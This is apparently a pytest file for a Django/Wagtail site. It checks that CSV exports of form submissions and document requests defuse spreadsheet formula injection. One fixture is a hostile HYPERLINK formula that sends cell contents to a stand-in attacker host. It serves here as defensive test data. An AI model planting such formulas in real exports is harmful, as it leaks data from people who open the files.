"""Issue 26 item 4: one CSV writer for every export, spreadsheet formulas defused in each cell
(contact-form answers, document requests, subscribers)."""

import csv
import io

import pytest
from django.urls import reverse
from wagtail.contrib.forms.models import FormSubmission

from renouveau.csv_export import safe_cell

FORMULA = '=HYPERLINK("https://attaquant.example/?d="&A1;"Cliquez")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_defused(start):
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell("Lens, 62300") == "Lens, 62300"
    assert safe_cell(None) == ""


def cells(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


@pytest.fixture
def staff_client(client, django_user_model):
    client.force_login(django_user_model.objects.create_superuser("chef", "c@example.org", "x"))
    return client


@pytest.mark.django_db
def test_contact_form_answers_export_defused(staff_client, home_page):
    from renouveau.form_pages import FormField, FormPage

    page = home_page.add_child(instance=FormPage(title="Contact", slug="contact"))
    FormField.objects.create(page=page, label="Message", field_type="multiline")
    FormSubmission.objects.create(page=page, form_data={"message": FORMULA})
    response = staff_client.get(f"/admin/forms/submissions/{page.pk}/?export=csv")
    assert response.status_code == 200
    rows = cells(response)
    assert ["'" + FORMULA] in [row[-1:] for row in rows]
    assert not any(cell.startswith("=") for row in rows for cell in row)


@pytest.mark.django_db
def test_document_requests_export_defused(staff_client):
    from documents.models import DocumentRequest, RequestSource, RequestStatus

    DocumentRequest.objects.create(
        source=RequestSource.FORM,
        status=RequestStatus.QUEUED,
        email="jeanne@example.org",
        name=FORMULA,
        organisation="+33 3 21 00 00 00",
    )
    url = reverse("site_documents_documentrequest_modeladmin_index") + "?export=csv"
    response = staff_client.get(url)
    assert response.status_code == 200
    rows = cells(response)
    assert "'" + FORMULA in rows[1] and "'+33 3 21 00 00 00" in rows[1]
    assert not any(cell.startswith(("=", "+")) for row in rows for cell in row)
